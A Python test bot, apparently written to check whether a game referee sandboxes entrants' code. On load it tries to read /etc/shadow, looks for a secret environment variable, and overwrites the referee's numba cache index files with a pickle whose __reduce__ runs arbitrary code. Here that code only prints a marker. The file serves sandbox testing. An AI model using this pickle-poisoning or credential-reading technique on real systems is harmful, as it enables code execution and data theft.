"""Hostile bot (an SDK bot, as an entrant would send it to ``referee check``): when it
is loaded, before its hello, it tries what a stranger's program does on the host it is
given: it reads ``/etc/shadow`` (root's only), looks for ``STRANGER_SECRET`` in its
environment (the referee's, when a bot is not sandboxed), and rewrites every numba
index file (``*.nbi``, a pickle) of the referee's kernel cache with one that runs its
code in whichever process loads it next: that code writes ``KCACHE-PWNED`` to the
victim's stderr. It reports each attempt on its own stderr (``STRANGER ...`` lines),
then plays as ``caller`` does.
"""

import glob
import os
import pickle
import sys

from evaluator import declarations

PAYLOAD = "import sys, os; sys.stderr.write(f'KCACHE-PWNED uid={os.getuid()}\\n')"


class Planted:
    def __reduce__(self):
        return exec, (PAYLOAD,)


def attempt(what, body):
    try:
        result = body()
    except OSError as exc:
        result = f"refused ({exc.strerror})"
    print(f"STRANGER {what}: {result}", file=sys.stderr, flush=True)


def read_shadow():
    with open("/etc/shadow", "rb") as f:
        return f"read {len(f.read())} bytes"


def plant():
    base = os.environ.get("XDG_CACHE_HOME") or os.path.expanduser("~/.cache")
    planted = 0
    for index in glob.glob(f"{base}/referee/kernels/*/**/*.nbi", recursive=True):
        with open(index, "wb") as f:
            pickle.dump(Planted(), f)
        planted += 1
    return f"planted {planted}" if planted else "no index file found"


attempt("shadow", read_shadow)
print(f"STRANGER env: {'SEEN' if 'STRANGER_SECRET' in os.environ else 'absent'}",
      file=sys.stderr, flush=True)
attempt("cache", plant)


def act(view):
    if view.can_call:
        return "call"
    return declarations(view.ruleset)[0]
